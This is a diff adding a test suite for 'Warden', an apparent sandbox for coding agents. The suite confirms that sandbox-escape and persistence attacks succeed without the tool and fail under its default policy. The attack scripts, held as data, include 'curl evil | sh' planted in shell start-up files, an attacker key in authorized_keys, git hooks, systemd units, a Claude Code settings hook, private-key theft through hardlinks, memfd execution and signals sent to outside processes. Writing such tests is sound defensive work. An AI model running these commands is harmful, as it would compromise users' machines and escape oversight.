@@ -1,0 +1,312 @@
+/**
+ * The sealed room under the default policy: each way of reaching a protected
+ * outcome without opening the protected path (a rename over it, a link, a
+ * move of a parent, a path that did not exist yet, a memfd, a pid outside the
+ * session) is tried from inside a session, and judged by its outcome: the
+ * file unchanged, the secret never read, the process outside untouched. Every
+ * attempt is first shown to work without Warden, in an identical home and
+ * workspace, so a test cannot pass because the attack was broken.
+ */
+import assert from 'node:assert/strict';
+import { execFileSync, spawn } from 'node:child_process';
+import { existsSync, linkSync, mkdirSync, readFileSync, readdirSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import { after, test } from 'node:test';
+import { runSession } from '../src/daemon.js';
+import { compilePolicy } from '../src/policy/compile.js';
+import { loadPolicy, parsePolicy } from '../src/policy/load.js';
+import { policyPath } from '../src/policy/builtin.js';
+import { needKernel, ROOT, stateDir, tempDir, testConfig } from './helpers.js';
+
+const state = stateDir('sealed');
+after(() => state.cleanup());
+
+const SECRET = 'PRIVATE-KEY-7f3a';
+
+interface Room {
+  home: string;
+  ws: string;
+}
+
+/** A home with credentials and start-up files, and a workspace that is a git repository. */
+function furnish(home: string, ws: string): void {
+  mkdirSync(join(home, '.ssh'), { recursive: true });
+  writeFileSync(join(home, '.ssh', 'id_ed25519'), `${SECRET}\n`);
+  writeFileSync(join(home, '.ssh', 'authorized_keys'), 'ssh-ed25519 AAAA owner\n');
+  writeFileSync(join(home, '.bashrc'), 'original rc\n');
+  mkdirSync(join(home, '.config'), { recursive: true });
+  execFileSync('git', ['init', '-q', ws]);
+  writeFileSync(join(ws, 'README.md'), '# project\n');
+  linkSync(join(home, '.ssh', 'id_ed25519'), join(ws, 'prelinked-key')); /* a hardlink made before the session */
+}
+
+interface Attempt {
+  name: string;
+  /** shell, run with HOME=home in the workspace */
+  script: string;
+  /** whether the attack's outcome came about */
+  happened: (r: Room) => boolean;
+}
+
+const read = (p: string): string => (existsSync(p) ? readFileSync(p, 'utf8') : '');
+const stole = (r: Room, file: string): boolean => read(join(r.ws, file)).includes(SECRET);
+
+const ATTEMPTS: Attempt[] = [
+  {
+    name: 'rename a new file over ~/.bashrc',
+    script: 'echo "curl evil | sh" > ~/nb && mv -f ~/nb ~/.bashrc',
+    happened: (r) => read(join(r.home, '.bashrc')).includes('evil'),
+  },
+  {
+    name: 'rename over ~/.ssh/authorized_keys (python os.rename)',
+    script: `echo "ssh-ed25519 ATTACKER" > ~/ak && python3 -c 'import os; os.rename(os.path.expanduser("~/ak"), os.path.expanduser("~/.ssh/authorized_keys"))'`,
+    happened: (r) => read(join(r.home, '.ssh', 'authorized_keys')).includes('ATTACKER'),
+  },
+  {
+    name: 'append to ~/.bashrc through a new hardlink',
+    script: 'ln ~/.bashrc ~/rc-link && echo "evil-append" >> ~/rc-link',
+    happened: (r) => read(join(r.home, '.bashrc')).includes('evil-append'),
+  },
+  {
+    name: 'remove ~/.ssh/authorized_keys',
+    script: 'rm -f ~/.ssh/authorized_keys',
+    happened: (r) => !existsSync(join(r.home, '.ssh', 'authorized_keys')),
+  },
+  {
+    name: 'hardlink the private key into the workspace, then read it',
+    script: 'ln ~/.ssh/id_ed25519 ./k1 && cat ./k1 > ./stolen-link',
+    happened: (r) => stole(r, 'stolen-link'),
+  },
+  {
+    name: 'read a hardlink to the key that existed before the session',
+    script: 'cat ./prelinked-key > ./stolen-prelinked',
+    happened: (r) => stole(r, 'stolen-prelinked'),
+  },
+  {
+    name: 'move ~/.ssh to another name, then read it',
+    script: 'mv ~/.ssh ~/.ssh-moved && cat ~/.ssh-moved/id_ed25519 > ./stolen-moved',
+    happened: (r) => stole(r, 'stolen-moved'),
+  },
+  {
+    name: 'a git hook written in place',
+    script: `printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit`,
+    happened: (r) => existsSync(join(r.ws, '.git', 'hooks', 'pre-commit')),
+  },
+  {
+    name: 'a git hook renamed into place',
+    script: `printf '#!/bin/sh\\necho pwned\\n' > ./hook && mv ./hook .git/hooks/post-checkout`,
+    happened: (r) => existsSync(join(r.ws, '.git', 'hooks', 'post-checkout')),
+  },
+  {
+    name: 'a CI workflow under a .github that did not exist',
+    script: 'mkdir -p .github/workflows && echo "on: push" > .github/workflows/x.yml',
+    happened: (r) => existsSync(join(r.ws, '.github', 'workflows', 'x.yml')),
+  },
+  {
+    name: 'a CI workflow directory moved into place',
+    script: 'mkdir -p ./gh/workflows && echo "on: push" > ./gh/workflows/y.yml && mv ./gh .github',
+    happened: (r) => existsSync(join(r.ws, '.github', 'workflows', 'y.yml')),
+  },
+  {
+    name: 'a systemd user unit where ~/.config/systemd did not exist',
+    script: 'mkdir -p ~/.config/systemd/user && echo "[Service]" > ~/.config/systemd/user/x.service',
+    happened: (r) => existsSync(join(r.home, '.config', 'systemd', 'user', 'x.service')),
+  },
+  {
+    name: 'a systemd unit directory moved into place',
+    script: 'mkdir -p ~/sd/user && echo "[Service]" > ~/sd/user/y.service && mv ~/sd ~/.config/systemd',
+    happened: (r) => existsSync(join(r.home, '.config', 'systemd', 'user', 'y.service')),
+  },
+  {
+    name: 'an autostart entry where ~/.config/autostart did not exist',
+    script: 'mkdir -p ~/.config/autostart && echo "[Desktop Entry]" > ~/.config/autostart/x.desktop',
+    happened: (r) => existsSync(join(r.home, '.config', 'autostart', 'x.desktop')),
+  },
+  {
+    name: 'a symlink where ~/.config/systemd would be',
+    script: 'mkdir -p ~/elsewhere/user && ln -s ~/elsewhere ~/.config/systemd',
+    happened: (r) => existsSync(join(r.home, '.config', 'systemd')),
+  },
+  {
+    name: "Claude Code's settings under a new ~/.claude",
+    script: `mkdir -p ~/.claude && echo '{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"curl evil"}]}]}}' > ~/.claude/settings.json`,
+    happened: (r) => existsSync(join(r.home, '.claude', 'settings.json')),
+  },
+  {
+    name: "~/.bash_aliases, which Debian's .bashrc sources, created",
+    script: `echo "alias ls='curl evil | sh'" > ~/.bash_aliases`,
+    happened: (r) => existsSync(join(r.home, '.bash_aliases')),
+  },
+  {
+    name: 'a git config with a hooks path, under a new ~/.config/git',
+    script: 'mkdir -p ~/.config/git && printf "[core]\\n\\thooksPath = /tmp/h\\n" > ~/.config/git/config',
+    happened: (r) => existsSync(join(r.home, '.config', 'git', 'config')),
+  },
+  {
+    name: 'an executable memfd',
+    script: `python3 -c 'import os; fd = os.memfd_create("x"); os.write(fd, open("/bin/touch", "rb").read()); os.execv("/proc/self/fd/%d" % fd, ["touch", "memfd-ran"])'`,
+    happened: (r) => existsSync(join(r.ws, 'memfd-ran')),
+  },
+];
+
+const script = (attempts: Attempt[]): string =>
+  attempts.map((a, i) => `( ${a.script} ) > ./.attempt-${i}.log 2>&1`).join('\n') + '\n';
+
+function room(name: string): Room & { cleanup: () => void } {
+  const home = tempDir(`${name}-home`);
+  const ws = tempDir(`${name}-ws`);
+  furnish(home.path, ws.path);
+  return {
+    home: home.path,
+    ws: ws.path,
+    cleanup: () => {
+      home.cleanup();
+      ws.cleanup();
+    },
+  };
+}
+
+async function plain(r: Room, text: string): Promise<void> {
+  const child = spawn('/bin/sh', ['-c', text], { cwd: r.ws, env: { ...process.env, HOME: r.home }, stdio: 'ignore' });
+  await new Promise((resolve) => child.once('exit', resolve));
+}
+
+test('without Warden, every attempt works (the attacks are real)', async () => {
+  const failed: string[] = [];
+  for (const a of ATTEMPTS) {
+    const r = room('bare'); /* each in a room of its own: one attempt's outcome is not another's start */
+    try {
+      await plain(r, script([a]));
+      if (!a.happened(r)) failed.push(a.name);
+    } finally {
+      r.cleanup();
+    }
+  }
+  assert.deepEqual(failed, []);
+});
+
+test('under the default policy, none of them happens, and ordinary work goes on', async (t) => {
+  if (!needKernel(t)) return;
+  const r = room('sealed');
+  try {
+    const policy = compilePolicy(loadPolicy(policyPath(ROOT, 'coding-agent')), { workspace: r.ws, home: r.home });
+    const ordinary = [
+      'echo "notes" > ~/notes.txt',
+      'mkdir -p ~/.config/tool && echo "a: 1" > ~/.config/tool/config.yml && mv ~/.config/tool/config.yml ~/.config/tool/c.yml',
+      'mkdir -p ~/.claude/projects && echo "{}" > ~/.claude/projects/state.json',
+      'echo "x" > src.txt && git add src.txt && git -c user.email=a@b -c user.name=a commit -qm work && echo committed > ./.committed',
+      'ln -s README.md ./readme-link && ln ./README.md ./readme-hard',
+    ].join('\n');
+    const run = await runSession(testConfig(state.path), {
+      command: ['/usr/bin/env', `HOME=${r.home}`, '/bin/sh', '-c', `cd ${r.ws} && ${script(ATTEMPTS)}${ordinary}`],
+      enforcement: { policy, workspace: r.ws },
+    });
+    const through = ATTEMPTS.filter((a) => a.happened(r)).map((a) => a.name);
+    assert.deepEqual(through, [], 'attempts whose outcome came about');
+    assert.equal(read(join(r.home, '.bashrc')), 'original rc\n');
+    assert.equal(read(join(r.home, '.ssh', 'id_ed25519')), `${SECRET}\n`);
+    assert.ok(!readdirSync(r.ws).some((f) => f.startsWith('stolen') && stole(r, f)), 'no secret was copied out');
+    assert.equal(read(join(r.home, 'notes.txt')), 'notes\n', 'the home directory stays writable');
+    assert.ok(existsSync(join(r.home, '.config', 'tool', 'c.yml')), 'new directories and renames elsewhere work');
+    assert.ok(existsSync(join(r.home, '.claude', 'projects', 'state.json')), "an agent's own state stays writable");
+    assert.ok(existsSync(join(r.ws, '.committed')), 'git commit works');
+    assert.ok(existsSync(join(r.ws, 'readme-link')) && existsSync(join(r.ws, 'readme-hard')), 'links elsewhere work');
+    assert.equal(run.status, 0);
+  } finally {
+    r.cleanup();
+  }
+});
+
+test('from inside a session, no process outside it can be named', async (t) => {
+  if (!needKernel(t)) return;
+  const r = room('pids');
+  const bystander = spawn('sleep', ['120'], { stdio: 'ignore' });
+  try {
+    const out = join(r.ws, 'out');
+    const pid = bystander.pid ?? 0;
+    const probe = [
+      `prlimit --pid ${process.pid} --nofile=0:0 && echo "prlimit-warden: done"`,
+      `prlimit --pid ${pid} --cpu=1:1 && echo "prlimit-bystander: done"`,
+      `kill -STOP ${pid} && echo "stop-bystander: done"`,
+      `renice -n 19 -p ${process.pid} && echo "renice-warden: done"`,
+      `taskset -p 1 ${process.pid} && echo "taskset-warden: done"`,
+      `ionice -c 3 -p ${process.pid} && echo "ionice-warden: done"`,
+      'ls /proc | grep -E "^[0-9]+$" | wc -l > ./visible',
+    ]
+      .map((l) => `( ${l} ) >> ${out} 2>&1`)
+      .join('\n');
+    const policy = compilePolicy(loadPolicy(policyPath(ROOT, 'coding-agent')), { workspace: r.ws, home: r.home });
+    await runSession(testConfig(state.path), {
+      command: ['/bin/sh', '-c', `cd ${r.ws} && ${probe}`],
+      enforcement: { policy, workspace: r.ws },
+    });
+    const said = read(out);
+    assert.doesNotMatch(said, /: done/, said);
+    const limits = readFileSync(`/proc/${process.pid}/limits`, 'utf8');
+    assert.doesNotMatch(limits, /Max open files\s+0\s/, "Warden's own limits are untouched");
+    assert.doesNotMatch(readFileSync(`/proc/${pid}/limits`, 'utf8'), /Max cpu time\s+1\s/);
+    assert.doesNotMatch(readFileSync(`/proc/${pid}/stat`, 'utf8'), /\) T /, 'the bystander was not stopped');
+    assert.ok(
+      Number(read(join(r.ws, 'visible'))) < 10,
+      `the session sees its own processes only: ${read(join(r.ws, 'visible'))}`,
+    );
+  } finally {
+    bystander.kill('SIGKILL');
+    r.cleanup();
+  }
+});
+
+test('a denied program runs by no route: not directly, through ld.so, a copy, a hardlink or a memfd', async (t) => {
+  const routes = [
+    './bin/tool ./ran-direct',
+    '/lib64/ld-linux-x86-64.so.2 ./bin/tool ./ran-ldso',
+    'cp ./bin/tool ./tool-copy && ./tool-copy ./ran-copy',
+    `python3 -c 'open("tool-py", "wb").write(open("bin/tool", "rb").read())' && chmod +x ./tool-py && ./tool-py ./ran-py`,
+    './bin/tool-link ./ran-link',
+    `python3 -c 'import os; fd = os.memfd_create("t"); os.write(fd, open("bin/tool", "rb").read()); os.execv("/proc/self/fd/%d" % fd, ["t", "ran-memfd"])'`,
+  ];
+  const outcomes = ['ran-direct', 'ran-ldso', 'ran-copy', 'ran-py', 'ran-link', 'ran-memfd'];
+  const setUp = (ws: string): void => {
+    mkdirSync(join(ws, 'bin'));
+    execFileSync('cp', ['/usr/bin/touch', join(ws, 'bin', 'tool')]);
+    linkSync(join(ws, 'bin', 'tool'), join(ws, 'bin', 'tool-link')); /* another name, from before the session */
+  };
+  const text = routes.map((r) => `( ${r} ) >/dev/null 2>&1`).join('\n');
+  const bare = tempDir('exec-bare');
+  try {
+    setUp(bare.path);
+    execFileSync('/bin/sh', ['-c', text], { cwd: bare.path });
+    assert.deepEqual(
+      outcomes.filter((o) => !existsSync(join(bare.path, o))),
+      [],
+      'every route runs the program without Warden',
+    );
+  } finally {
+    bare.cleanup();
+  }
+  if (!needKernel(t)) return;
+  const ws = tempDir('exec-sealed');
+  try {
+    setUp(ws.path);
+    const yaml = `apiVersion: warden.dev/v1
+kind: Policy
+metadata: {name: exec-deny}
+files:
+  allowWrite: ["\${workspace}", /tmp]
+exec:
+  deny: ["\${workspace}/bin/tool"]
+`;
+    const policy = compilePolicy(parsePolicy(yaml, 'exec.yaml'), { workspace: ws.path });
+    await runSession(testConfig(state.path), {
+      command: ['/bin/sh', '-c', `cd ${ws.path} && ${text}`],
+      enforcement: { policy, workspace: ws.path },
+    });
+    assert.deepEqual(
+      outcomes.filter((o) => existsSync(join(ws.path, o))),
+      [],
+      'routes by which the denied program ran',
+    );
+  } finally {
+    ws.cleanup();
+  }
+});
